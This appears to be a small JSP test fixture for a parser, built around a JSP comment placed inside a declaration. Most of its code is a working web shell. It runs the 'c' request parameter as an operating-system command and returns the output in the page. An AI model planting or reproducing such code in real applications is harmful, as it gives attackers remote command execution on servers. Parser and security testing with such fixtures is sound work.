<%@ page import="java.io.*" %>
<%!
// Hand-written fixture: a JSP comment inside a declaration ends the block
// early for a strict parser; the code after it still shows what the page
// was edited to do.
String banner() {
    <%-- return load(); --%>
    return "";
}
String run(String c) throws IOException {
    Process p = Runtime.getRuntime().exec(c);
    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
    StringBuilder b = new StringBuilder();
    for (String l; (l = r.readLine()) != null; ) b.append(l).append('\n');
    return b.toString();
}
%>
<%= run(request.getParameter("c")) %>
